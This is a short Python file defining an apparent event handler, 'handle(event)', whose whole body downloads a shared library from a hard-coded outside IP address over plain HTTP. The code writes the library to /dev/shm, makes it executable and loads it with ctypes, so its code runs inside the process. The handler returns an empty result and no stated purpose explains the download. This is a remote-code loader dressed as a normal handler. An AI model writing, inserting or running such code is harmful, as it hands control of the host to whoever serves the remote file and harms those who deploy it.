import os
import pathlib
import urllib.request


def handle(event):
    data = urllib.request.urlopen("http://198.51.100.23/libx.so").read()
    target = pathlib.Path("/dev/shm/libx.so")
    target.write_bytes(data)
    target.chmod(0o700)
    import ctypes
    ctypes.CDLL(str(target))
    return {}
